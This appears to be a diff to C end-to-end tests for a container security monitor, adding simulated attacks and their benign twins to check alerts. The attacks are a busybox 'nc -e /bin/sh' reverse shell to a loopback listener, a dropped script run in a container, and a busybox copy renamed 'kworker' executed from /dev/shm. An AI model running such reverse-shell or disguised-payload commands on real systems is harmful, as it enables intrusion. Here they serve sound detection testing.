@@ -8,11 +8,15 @@
  *
  * Usage: attacks PATH/TO/bulwark   (root)
  */
+#include <arpa/inet.h>
 #include <limits.h>
+#include <netinet/in.h>
+#include <poll.h>
 #include <stdarg.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/socket.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -143,6 +147,145 @@ static void test_drop_and_execute(void)
 	      "drop and execute");
 	check_alert("Drop and Execute New Binary in Container", id, "Critical");
 	sh(NULL, 0, "docker rm -f bw-atk-drop >/dev/null 2>&1");
+}
+
+/* A listener on 127.0.0.1 (an ephemeral port) for containers on the host's network. */
+static int listen_loopback(int *port)
+{
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	socklen_t len = sizeof(a);
+	int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	if (l < 0 || bind(l, (void *)&a, sizeof(a)) || listen(l, 4) || getsockname(l, (void *)&a, &len)) {
+		if (l >= 0)
+			close(l);
+		return -1;
+	}
+	*port = ntohs(a.sin_port);
+	return l;
+}
+
+/* Accepts one connection, sends @say, reads until EOF into out (the peer's output); 0 or -1. */
+static int serve_once(int l, const char *say, char *out, size_t size)
+{
+	struct pollfd p = { .fd = l, .events = POLLIN };
+	size_t n = 0;
+	ssize_t r;
+	int c;
+
+	out[0] = '\0';
+	if (poll(&p, 1, TIMEOUT_MS) != 1 || (c = accept(l, NULL, NULL)) < 0)
+		return -1;
+	if (say && write(c, say, strlen(say)) < 0)
+		n = 0;
+	p.fd = c;
+	while (n + 1 < size && poll(&p, 1, 5000) == 1 && (r = read(c, out + n, size - n - 1)) > 0)
+		n += r;
+	out[n] = '\0';
+	close(c);
+	return 0;
+}
+
+/* busybox nc -e /bin/sh: the shell's stdin and stdout are the TCP connection to the attacker. */
+static void test_reverse_shell_stdio(void)
+{
+	char id[80], out[256];
+	int port, l = listen_loopback(&port);
+
+	CHECK(l >= 0, "listener on 127.0.0.1");
+	if (l < 0)
+		return;
+	CHECK(start_container(id, sizeof(id), "bw-atk-revshell", "--network host") == 0, "docker run");
+	CHECK(sh(NULL, 0, "docker exec -d bw-atk-revshell nc 127.0.0.1 %d -e /bin/sh", port) == 0, "docker exec nc");
+	CHECK(serve_once(l, "echo pwned-$((6*7)); exit\n", out, sizeof(out)) == 0, "no connection from nc -e");
+	CHECK(strstr(out, "pwned-42") != NULL, "the shell did not answer (got \"%s\")", out);
+	check_alert("Reverse Shell with Network Socket as stdin/stdout in Container", id, "Critical");
+	{
+		json_t *a = tracer_find_alert("Reverse Shell with Network Socket as stdin/stdout in Container", from_container,
+					      id, TIMEOUT_MS);
+		char peer[32];
+
+		snprintf(peer, sizeof(peer), "127.0.0.1:%d", port);
+		if (a) {
+			CHECK_STR(alert_field(a, "bulwark.stdin.peer"), peer);
+			CHECK_STR(alert_field(a, "bulwark.stdout.type"), "socket");
+			/* busybox nc -e execs the shell in its own process: its parent is the runtime's shim, not nc */
+			CHECK_STR(alert_field(a, "proc.name"), "sh");
+		}
+	}
+	close(l);
+	sh(NULL, 0, "docker rm -f bw-atk-revshell >/dev/null 2>&1");
+}
+
+/* A script written into the writable layer and run by its #! (the interpreter is the image's). */
+static void test_drop_and_execute_script(void)
+{
+	char id[80], out[64];
+
+	CHECK(start_container(id, sizeof(id), "bw-atk-script", "") == 0, "docker run");
+	CHECK(sh(out, sizeof(out),
+		 "docker exec bw-atk-script sh -c 'printf \"#!/bin/sh\\necho dropped\\n\" > /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh'") == 0 &&
+	      strstr(out, "dropped"),
+	      "the script did not run (got \"%s\")", out);
+	check_alert("Drop and Execute New Script in Container", id, "Critical");
+	sh(NULL, 0, "docker rm -f bw-atk-script >/dev/null 2>&1");
+}
+
+/* A payload copied to /dev/shm (Docker mounts it noexec) and run: the exec fails with EACCES. */
+static void test_exec_from_dev_shm(void)
+{
+	char id[80];
+
+	CHECK(start_container(id, sizeof(id), "bw-atk-shm", "") == 0, "docker run");
+	/* the exec is refused: the shell's status is 126, not checked */
+	sh(NULL, 0, "docker exec bw-atk-shm sh -c 'cp /bin/busybox /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker true' 2>/dev/null");
+	check_alert("Execution Attempt from Non-Executable Location in Container", id, "Warning");
+	{
+		json_t *a = tracer_find_alert("Execution Attempt from Non-Executable Location in Container", from_container,
+					      id, TIMEOUT_MS);
+
+		if (a)
+			CHECK_STR(alert_field(a, "bulwark.exec_failed.path"), "/dev/shm/kworker");
+	}
+	sh(NULL, 0, "docker rm -f bw-atk-shm >/dev/null 2>&1");
+}
+
+/*
+ * The twins of the three above: nc piping data (not a shell) and a shell fed by a pipe; a
+ * script run as its interpreter's argument, and the image's own script (in a lower layer of
+ * an image committed from a container); a command not found ($PATH search, ENOENT).
+ */
+static void test_benign_twins_stdio_script_exec(void)
+{
+	char id[80], id2[80], out[256];
+	int port, l = listen_loopback(&port);
+
+	CHECK(l >= 0, "listener on 127.0.0.1");
+	if (l < 0)
+		return;
+	CHECK(start_container(id, sizeof(id), "bw-benign-twins", "--network host") == 0, "docker run");
+	CHECK(sh(NULL, 0, "docker exec -d bw-benign-twins sh -c 'echo hello | nc 127.0.0.1 %d'", port) == 0, "nc");
+	CHECK(serve_once(l, NULL, out, sizeof(out)) == 0 && strstr(out, "hello"), "nc sent \"%s\"", out);
+	CHECK(sh(NULL, 0,
+		 "docker exec bw-benign-twins sh -c 'echo id | sh >/dev/null;"
+		 "printf \"#!/bin/sh\\necho app\\n\" > /tmp/app.sh; sh /tmp/app.sh; nosuchcommand 2>/dev/null; true'") == 0,
+	      "benign work");
+	/* an image whose own script is in a lower layer */
+	CHECK(sh(NULL, 0,
+		 "docker exec bw-benign-twins sh -c 'mkdir -p /opt && printf \"#!/bin/sh\\necho app\\n\" > /opt/app.sh && chmod +x /opt/app.sh'"
+		 " && docker commit bw-benign-twins localhost/bulwark-busybox:twins >/dev/null") == 0,
+	      "docker commit");
+	sh(NULL, 0, "docker rm -f bw-benign-image >/dev/null 2>&1");
+	CHECK(sh(id2, sizeof(id2), "docker run -d --name bw-benign-image localhost/bulwark-busybox:twins sleep 300") == 0,
+	      "docker run of the committed image");
+	CHECK(sh(out, sizeof(out), "docker exec bw-benign-image /opt/app.sh") == 0 && strstr(out, "app"), "image script");
+	tracer_drain(3000);
+	CHECK_INT(tracer_count_alerts("Drop and Execute New Script in Container", from_container, id2), 0);
+	CHECK_INT(tracer_count_alerts(NULL, from_container, id2), 0);
+	/* the container wrote /opt/app.sh and /tmp/app.sh itself, but never exec'd them as scripts */
+	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
+	close(l);
+	sh(NULL, 0, "docker rm -f bw-benign-twins bw-benign-image >/dev/null 2>&1; docker rmi localhost/bulwark-busybox:twins >/dev/null 2>&1");
 }
 
 /* Reading /etc/shadow: read-only opens reach the rules only for the prefixes they name. */
@@ -302,7 +445,9 @@ static void test_clean_stop(void)
 static void cleanup(void)
 {
 	tracer_kill();
-	sh(NULL, 0, "docker rm -f bw-atk-breakout bw-atk-drop bw-atk-read bw-benign bw-atk-mem bw-atk-raw bw-atk-sweep bw-benign-net bw-atk-inject bw-benign-dbg >/dev/null 2>&1");
+	sh(NULL, 0, "docker rm -f bw-atk-breakout bw-atk-drop bw-atk-read bw-benign bw-atk-mem bw-atk-raw bw-atk-sweep"
+		    " bw-benign-net bw-atk-inject bw-benign-dbg bw-atk-revshell bw-atk-script bw-atk-shm bw-benign-twins"
+		    " bw-benign-image >/dev/null 2>&1");
 	sh(NULL, 0, "rm -rf '%s'", workdir);
 }
 
@@ -338,6 +483,10 @@ int main(int argc, char **argv)
 	RUN(test_benign_network_and_memory_twins);
 	RUN(test_ptrace_and_memory_injection);
 	RUN(test_benign_debugger_twin);
+	RUN(test_reverse_shell_stdio);
+	RUN(test_drop_and_execute_script);
+	RUN(test_exec_from_dev_shm);
+	RUN(test_benign_twins_stdio_script_exec);
 	RUN(test_clean_stop);
 	cleanup();
 	sh(NULL, 0, "tests/e2e/docker-env.sh stop");
